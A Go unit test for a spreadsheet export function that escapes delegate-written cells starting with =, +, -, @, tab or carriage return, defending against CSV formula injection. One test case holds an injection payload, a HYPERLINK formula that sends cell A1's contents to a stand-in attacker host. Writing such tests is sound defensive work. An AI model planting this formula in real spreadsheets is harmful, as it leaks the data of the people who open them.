package report_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/daihoi/daihoi/report"
)

// Nothing a delegate writes runs in the organisers' spreadsheet: a cell Excel would read as a
// formula goes out as text.
func TestSpreadsheetCellsAreNeverFormulas(t *testing.T) {
	rows := []struct{ what, cell, want string }{
		{"a link that would run", `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`, `'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`},
		{"a sum", "+1+1", "'+1+1"},
		{"a subtraction, or a dash that starts a list", "-2+3", "'-2+3"},
		{"an at-sign function", "@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"a tab before a formula", "\t=1+1", "'\t=1+1"},
		{"a carriage return before a formula", "\r=1+1", "'\r=1+1"},
		{"an ordinary comment", "Đề nghị bổ sung mục 3 = cần thiết", "Đề nghị bổ sung mục 3 = cần thiết"},
		{"a number", "42", "42"},
		{"an empty cell", "", ""},
	}
	for _, row := range rows {
		t.Run(row.what, func(t *testing.T) {
			if got := report.SpreadsheetCell(row.cell); got != row.want {
				t.Fatalf("%q became %q, want %q", row.cell, got, row.want)
			}
			var buf bytes.Buffer
			s := report.NewSpreadsheet(&buf)
			if err := s.Write([]string{"Nguyễn Văn A", row.cell}); err != nil {
				t.Fatal(err)
			}
			if err := s.Flush(); err != nil {
				t.Fatal(err)
			}
			back, err := csv.NewReader(&buf).ReadAll()
			if err != nil || len(back) != 1 || back[0][1] != row.want {
				t.Fatalf("the CSV reads back as %q (%v), want %q", back, err, row.want)
			}
		})
	}
}
